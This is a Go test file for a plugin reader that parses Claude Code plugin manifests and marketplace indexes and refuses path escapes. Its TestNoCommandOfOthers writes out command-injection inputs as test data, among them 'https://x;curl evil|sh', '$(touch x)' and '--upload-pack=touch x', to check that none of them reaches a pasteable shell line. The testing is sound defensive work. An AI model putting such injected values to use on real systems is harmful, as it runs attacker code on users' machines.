package plugin

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/troupe-dev/troupe/internal/front"
)

// files writes files below a folder; what begins with -> is a link.
func files(t testing.TB, dir string, texts map[string]string) {
	t.Helper()
	for name, text := range texts {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		write := func() error { return os.WriteFile(path, []byte(text), 0o600) }
		if to, ok := strings.CutPrefix(text, "->"); ok {
			write = func() error { return os.Symlink(to, path) }
		}
		if err := write(); err != nil {
			t.Fatal(err)
		}
	}
}

// parts is what was found, in one line.
func parts(p Plugin) string {
	var out []string
	add := func(kind string, sources []front.Source) {
		for _, s := range sources {
			rel, err := filepath.Rel(p.Root, filepath.Join(s.Path, s.Only))
			if err != nil || s.Root != p.Root || s.Scope != front.ScopePlugin || s.Plugin != p.Name {
				rel = "OUTSIDE"
			}
			out = append(out, kind+" "+rel)
		}
	}
	add("agents", p.Agents)
	add("commands", p.Commands)
	add("skills", p.Skills)
	for _, c := range p.Hooks {
		out = append(out, "hooks "+strings.ReplaceAll(string(c.Raw), " ", ""))
	}
	for _, c := range p.Servers {
		out = append(out, "servers "+strings.ReplaceAll(string(c.Raw), " ", ""))
	}
	return p.Name + ": " + strings.Join(out, "; ")
}

// TestRead: manifests in the forms they are found in, and what of a plugin is refused.
func TestRead(t *testing.T) {
	t.Parallel()
	const manifest = ".claude-plugin/plugin.json"
	for name, c := range map[string]struct {
		files map[string]string
		index string
		want  string // parts; "" cannot be used
		says  string // one of the findings
	}{
		"usual places": {files: map[string]string{manifest: `{"name": "p"}`, "agents/a.md": "", "commands/c.md": "",
			"skills/s/SKILL.md": "", "hooks/hooks.json": `{"description": "d", "hooks": {"Stop": []}}`,
			".mcp.json": `{"mcpServers": {}}`},
			want: `p: agents agents; commands commands; skills skills; hooks {"Stop":[]}; servers {"mcpServers":{}}`},
		"manifest at the root, bare hooks": {files: map[string]string{"plugin.json": "\xef\xbb\xbf" + `{"name": "p"}`,
			"hooks/hooks.json": `{"Stop": []}`}, want: `p: hooks {"Stop":[]}`},
		"no name": {files: map[string]string{manifest: `{}`}, want: `no-name: `},
		"paths and lists": {files: map[string]string{manifest: `{"name": "p", "agents": ["./x/a.md", "more"], "commands":
			"./cmd/", "hooks": ["./h.json", {"Stop": []}], "mcpServers": {"s": {"command": "c"}}}`, "x/a.md": "",
			"more/b.md": "", "agents/c.md": "", "cmd/d.md": "", "h.json": `{"hooks": {"Stop": [1]}, "x": 1}`},
			want: `p: agents x/a.md; agents more; agents agents; commands cmd; hooks {"Stop":[1]}; hooks {"Stop":[]}; ` +
				`servers {"s":{"command":"c"}}`},
		"a file named twice counts once": {files: map[string]string{manifest: `{"name": "p", "hooks":
			"./hooks/hooks.json", "agents": "./agents/"}`, "hooks/hooks.json": `{"Stop": []}`, "agents/a.md": ""},
			want: `p: agents agents; hooks {"Stop":[]}`},
		"hooks twice in one file: neither is lost": {files: map[string]string{manifest: `{"name": "p"}`,
			"hooks/hooks.json": `{"hooks": {"Stop": [1]}, "hooks": {"Stop": [2]}}`},
			want: `p: hooks {"Stop":[1]}; hooks {"Stop":[2]}`},
		"one skill": {files: map[string]string{"SKILL.md": "x"}, want: "one-skill: skills ."},
		"an index lists parts": {files: map[string]string{"skills/a/SKILL.md": "", "skills/b/SKILL.md": "",
			"commands/c.md": ""}, index: `{"name": "q", "source": "./", "strict": false, "skills": ["./skills/a"]}`,
			want: "q: commands commands; skills skills/a"},
		"no JSON": {files: map[string]string{manifest: `{"name": `}, says: "this is not JSON"},
		"null":    {files: map[string]string{manifest: `null`}, says: "not an object"},
		"a key twice": {files: map[string]string{manifest: `{"hooks": {}, "hooks": {}}`},
			says: "stands there twice"},
		"bad name":       {files: map[string]string{manifest: `{"name": "a:b"}`}, says: `contains ':'`},
		"a dash":         {files: map[string]string{manifest: `{"name": "-a"}`}, says: "begins with a dash"},
		"control":        {files: map[string]string{manifest: `{"name": "a\u001b[1m"}`}, says: "contains"},
		"a blank":        {files: map[string]string{manifest: `{"name": "a b"}`}, says: "has a blank"},
		"hooks are gone": {files: map[string]string{manifest: `{"hooks": "./h.json"}`}, says: "no such file"},
		"hooks above":    {files: map[string]string{manifest: `{"hooks": "./x/../../h.json"}`}, says: "lead out"},
		"hooks no path":  {files: map[string]string{manifest: `{"hooks": 7}`}, says: "neither a path nor an object"},
		"hooks no JSON": {files: map[string]string{manifest: `{}`, "hooks/hooks.json": "{"},
			says: "hooks cannot be read"},
		"servers linked out": {files: map[string]string{manifest: `{}`, ".mcp.json": "->/etc/hostname"},
			says: "mcpServers"},
		"agents above": {files: map[string]string{manifest: `{"agents": ["../other", "/etc", "~/x", "a\\b"]}`},
			want: "agents-above: ", says: "left out"},
		"agents linked out": {files: map[string]string{manifest: `{}`, "agents": "->/etc"}, want: "agents-linked-out: ",
			says: "escapes"},
		"a manifest linked out": {files: map[string]string{manifest: "->/etc/hostname"}, says: "cannot be read"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := filepath.Join(t.TempDir(), strings.ReplaceAll(name, " ", "-"))
			files(t, dir, c.files)
			var index json.RawMessage
			if c.index != "" {
				index = json.RawMessage(c.index)
			}
			p, found, ok := Read(dir, index)
			if ok != (c.want != "") || ok && parts(p) != c.want {
				t.Errorf("read as %q (%v), want %q\n%v", parts(p), ok, c.want, found)
			}
			if c.says != "" && !slices.ContainsFunc(found, func(f front.Finding) bool {
				return strings.Contains(f.String(), c.says)
			}) {
				t.Errorf("nothing says %q: %v", c.says, found)
			}
		})
	}
}

// TestHash: whatever changes in a plugin's folder changes its hash and its stamp, but for git's own; a link that leads
// out is refused.
func TestHash(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	files(t, dir, map[string]string{"plugin.json": `{"name": "p"}`, "a/b/c/d/e/f.sh": "1", "l": "->plugin.json",
		".git/x": "1", "a/.git/x": "1"})
	p, _, _ := Read(dir, nil)
	sums := func() [2]string {
		t.Helper()
		hash, err := p.Hash()
		stamp, err2 := p.Stamp()
		if err != nil || err2 != nil {
			t.Fatal(err, err2)
		}
		return [2]string{hash, stamp}
	}
	before := sums()
	at := func(name string) string { return filepath.Join(dir, filepath.FromSlash(name)) }
	for _, step := range []struct {
		what    string
		do      func() error
		changes bool
	}{
		{"nothing", func() error { return nil }, false},
		{"a file deep below", func() error { return os.WriteFile(at("a/b/c/d/e/f.sh"), []byte("2"), 0o600) }, true},
		{"it may be run", func() error { return os.Chmod(at("a/b/c/d/e/f.sh"), 0o700) }, true},
		{"a link", func() error { return os.Remove(at("l")) }, true},
		{"a file more", func() error { return os.WriteFile(at("z"), nil, 0o600) }, true},
		{"git's", func() error { return os.WriteFile(at(".git/x"), []byte("22"), 0o600) }, false},
		{"what only looks like git's", func() error { return os.WriteFile(at("a/.git/x"), []byte("22"), 0o600) }, true},
	} {
		if err := step.do(); err != nil {
			t.Fatal(err)
		}
		now := sums()
		if (now[0] != before[0]) != step.changes || (now[1] != before[1]) != step.changes {
			t.Errorf("%s: %v, before %v", step.what, now, before)
		}
		before = now
	}
	p.Index = json.RawMessage(`{"name": "p", "hooks": {}}`) // a marketplace says what runs, too
	if now := sums(); now[0] == before[0] || now[1] == before[1] {
		t.Error("what an index says is not hashed")
	}
	for _, to := range []string{".git/x", ".git", ".git/later", "../.git/x", "../a/../.git", ".."} {
		below := "b/l"
		if !strings.HasPrefix(to, "..") {
			below = "l"
		}
		files(t, dir, map[string]string{below: "->" + to})
		if _, err := p.Hash(); err == nil || !strings.Contains(err.Error(), below) {
			t.Errorf("with a link to %s, which is not hashed: %v", to, err)
		}
		if err := os.Remove(at(below)); err != nil {
			t.Fatal(err)
		}
	}
	files(t, dir, map[string]string{"out": "->/etc/hostname"})
	if _, err := p.Hash(); err == nil || !strings.Contains(err.Error(), "out") {
		t.Errorf("with a link out of the folder: %v", err)
	}
}

// TestNoCommandOfOthers: what an index says of addresses and paths stands in no line for pasting that a shell would
// read otherwise.
func TestNoCommandOfOthers(t *testing.T) {
	t.Parallel()
	for _, source := range []string{`{"source": "url", "url": "https://x;curl evil|sh"}`,
		`{"source": "github", "repo": "a/$(touch x)"}`, `{"source": "url", "url": "--upload-pack=touch x"}`,
		`{"source": "url", "url": "-cx"}`, `{"source": "git-subdir", "url": "https://x/y", "path": "a;b"}`,
		"{\"source\": \"url\", \"url\": \"https://x`touch x`\"}", `{"source": "url", "url": "https://x\ny"}`} {
		if said := elsewhere([]byte(source)); strings.Contains(said, "git clone") || strings.Contains(said, "a;b") {
			t.Errorf("of %s: %s", source, said)
		}
	}
	said := elsewhere([]byte(`{"source": "url", "url": "git@host:a/b.git", "path": "plugins/p"}`))
	if !strings.Contains(said, "`git clone git@host:a/b.git FOLDER`") || !strings.Contains(said, "FOLDER/plugins/p`") {
		t.Error(said)
	}
}

// TestMarket: what is in the checkout is found, of the rest it is said where it is, and one entry never takes another
// with it.
func TestMarket(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	files(t, dir, map[string]string{".claude-plugin/marketplace.json": `{"name": "m", "metadata": {"pluginRoot":
		"./plugins"}, "plugins": [
		{"name": "here", "source": "./plugins/here"}, {"name": "below", "source": "below"}, {"name": "whole", "source": "./"},
		{"name": "github", "source": {"source": "github", "repo": "a/b"}},
		{"name": "sub", "source": {"source": "git-subdir", "url": "https://c/d", "path": "e"}},
		{"name": "npm", "source": {"source": "npm", "package": "f"}}, {"name": "gone", "source": "./gone"},
		{"name": "above", "source": "../x"}, {"name": "linked", "source": "./link"}, {"name": "a:b", "source": "./"},
		7, {"name": "HERE", "source": "./"}]}`, "plugins/here/x": "", "plugins/below/x": "", "link": "->/etc"})
	m, found, err := ReadMarket(dir)
	if err != nil || m.Name != "m" {
		t.Fatal(m, err)
	}
	got := map[string]string{}
	for _, e := range m.Entries {
		rel, err := filepath.Rel(m.Root, e.Dir)
		if err != nil || e.Elsewhere != "" {
			rel = e.Elsewhere
		}
		got[e.Name] = rel
	}
	for name, want := range map[string]string{"here": "plugins/here", "below": "plugins/below", "whole": ".",
		"github": "git clone https://github.com/a/b", "sub": "FOLDER/e", "npm": "package f of npm",
		"gone": "not in the checkout"} {
		if !strings.Contains(got[name], want) {
			t.Errorf("%s is at %q, want %q", name, got[name], want)
		}
	}
	if len(got) != 7 || len(found) != 5 {
		t.Errorf("found %v\n%v", got, found)
	}
}

// TestInstalled: what Claude Code keeps, in the forms of two of its versions.
func TestInstalled(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	files(t, dir, map[string]string{"installed_plugins.json": `{"version": 2, "plugins": {"a@m": [{"scope": "user",
		"installPath": "/p/a"}, {"scope": "project", "projectPath": "/w", "installPath": "/p/b"}], "old@m":
		{"installPath": "/p/old"}, "odd@m": 7, "relative@m": [{"installPath": "../x"}]}}`,
		"known_marketplaces.json": `{"m": {"source": {"source": "github"}, "installLocation": "/p/m"}, "n": {}}`})
	plugins, markets := InstalledIn(dir)
	want := []Installed{{"a@m", "/p/a", ""}, {"a@m", "/p/b", "/w"}, {"old@m", "/p/old", ""}}
	if !slices.Equal(plugins, want) || !slices.Equal(markets, []string{"/p/m"}) {
		t.Errorf("found %+v, %v", plugins, markets)
	}
	if plugins, markets := InstalledIn(t.TempDir()); len(plugins)+len(markets) > 0 {
		t.Errorf("found %v, %v in nothing", plugins, markets)
	}
}

// FuzzManifest: whatever a manifest says, nothing of the plugin lies out of its folder, and its name is one.
func FuzzManifest(f *testing.F) {
	for _, s := range []string{
		`{"name": "p", "agents": ["./a", "x.md"], "hooks": "./h.json", "mcpServers": {"s": {}}}`,
		`{"name": "..", "agents": "../../etc"}`, `{"hooks": [{"hooks": {}}, "./h.json", null]}`,
		`{"skills": "./a/../..", "commands": ["/", "~", "", "."]}`, `{"name": "a\u0000b"}`, `[]`, `{"hooks": {}`,
		`{"agents": "link/passwd.md", "skills": "link"}`,
	} {
		f.Add([]byte(s), false)
		f.Add([]byte(s), true)
	}
	dir := f.TempDir()
	files(f, dir, map[string]string{"a/x.md": "x", "x.md": "x", "h.json": `{"Stop": []}`, "link": "->/etc"})
	f.Fuzz(func(t *testing.T, data []byte, index bool) {
		name := filepath.Join(dir, "plugin.json")
		manifest, entry := data, json.RawMessage(nil)
		if index {
			manifest, entry = []byte(`{"name": "p"}`), data
		}
		if err := os.WriteFile(name, manifest, 0o600); err != nil {
			t.Fatal(err)
		}
		p, found, ok := Read(dir, entry)
		if !ok && !slices.ContainsFunc(found, func(f front.Finding) bool { return f.Unusable }) {
			t.Errorf("it cannot be used, and nothing says why: %v", found)
		}
		if !ok {
			return
		}
		if BadName(p.Name) != "" {
			t.Errorf("the name is %q", p.Name)
		}
		for _, s := range slices.Concat(p.Agents, p.Commands, p.Skills) {
			real, err := filepath.EvalSymlinks(filepath.Join(s.Path, s.Only))
			if err != nil || real != p.Root && !strings.HasPrefix(real, p.Root+"/") {
				t.Errorf("%+v lies at %s: %v", s, real, err)
			}
		}
		for _, c := range slices.Concat(p.Hooks, p.Servers) {
			if !json.Valid(c.Raw) && len(p.Servers) == 0 || c.File != p.Root && !strings.HasPrefix(c.File, p.Root+"/") {
				t.Errorf("%+v", c)
			}
		}
	})
}
